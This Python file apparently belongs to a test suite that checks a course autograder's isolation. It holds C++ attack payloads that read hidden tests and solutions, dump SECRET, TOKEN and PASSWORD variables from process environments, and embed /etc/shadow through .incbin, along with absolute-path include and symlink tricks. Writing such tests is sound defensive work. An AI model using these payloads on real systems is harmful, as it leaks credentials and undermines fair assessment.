"""Attacks that read what a student must not (attacks.py grades them): the secrets of every
tree they find and of the environment, and, as the build runs as root, files read by absolute
path or linked to. Each entry is NAME: (BASE, EXPECT, MARKERS, CODE), as attacks.py's ATTACKS
says; the code is C++ appended to BASE after attacks_prelude.PRELUDE.
"""

READS = {
    # secrets: the hidden tests, hidden points and solution from every tree it finds, and the
    # secrets in its own and its parent's environment, on stderr; test one_block first floods
    # 60 MB of output
    "secrets": ("skeleton", "same", (), r'''
static char atk_seen[64][PATH_MAX];
static int atk_nseen;

static void atk_show(const char *dir)
{
    static const char *const wanted[] = {"tests/hidden/test_lab01_hidden.c",
                                         "tests/hidden/lab01.txt", "solutions/" LAB_DIR "/vector_add.cu"};
    char path[PATH_MAX], real[PATH_MAX];
    for (size_t w = 0; w < sizeof wanted / sizeof wanted[0]; w++) {
        snprintf(path, sizeof path, "%s/%s", dir, wanted[w]);
        if (!realpath(path, real) || atk_nseen == 64)
            continue;
        int seen = 0;
        for (int i = 0; i < atk_nseen; i++)
            seen |= !strcmp(atk_seen[i], real);
        char *text = seen ? NULL : atk_read(real, 160, NULL);
        if (text) {
            strcpy(atk_seen[atk_nseen++], real);
            fprintf(stderr, "atk-secret %s: ...%s\n", real, text);
            free(text);
        }
    }
}

static void atk_show_env(const char *path)
{
    size_t n = 0;
    char *env = atk_read(path, 65536, &n);
    for (size_t i = 0; env && i < n; i += strlen(env + i) + 1)
        if (strstr(env + i, "SECRET") || strstr(env + i, "TOKEN") || strstr(env + i, "PASSWORD"))
            fprintf(stderr, "atk-secret %s: %s\n", path, env + i);
    free(env);
}

__attribute__((constructor)) static void atk_secrets(void)
{
    char path[64];
    if (!strcmp(atk_test(), "one_block")) {
        static char line[1024];
        memset(line, 'x', sizeof line - 1);
        line[sizeof line - 2] = '\n';
        for (int i = 0; i < 60 * 1024; i++)
            fputs(line, stderr);
    }
    atk_show_env("/proc/self/environ");
    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    atk_show_env(path);
    atk_roots(atk_show);
}
'''),
    # root reads: /etc/shadow and the hidden points, by absolute path, assembled into the
    # binary (the build runs as root) and printed by every test
    "root_incbin": ("skeleton", "at most", (), r'''
#ifndef __CUDA_ARCH__
asm(".pushsection .rodata\n"
    ".globl atk_shadow\natk_shadow:\n.incbin \"/etc/shadow\"\n.byte 0\n"
    ".globl atk_points\natk_points:\n.incbin \"" ATK_ROOT "/tests/hidden/lab01.txt\"\n.byte 0\n"
    ".popsection\n");
extern "C" const char atk_shadow[], atk_points[];

__attribute__((constructor)) static void atk_incbin(void)
{
    fprintf(stderr, "atk-shadow: %s\natk-points: %s\n", atk_shadow,
            atk_points + (strlen(atk_points) > 300 ? strlen(atk_points) - 300 : 0));
}
#endif
'''),
    # root reads: the hidden points #included by absolute path: the compiler's errors quote
    # its lines
    "root_include": ("skeleton", "at most", (), r'''
#include "@ROOT@/tests/hidden/lab01.txt"
'''),
    # root reads: the exercise file is a symlink to the solution in the course's tree
    "root_symlink": ("skeleton", "at most", (), None),
}
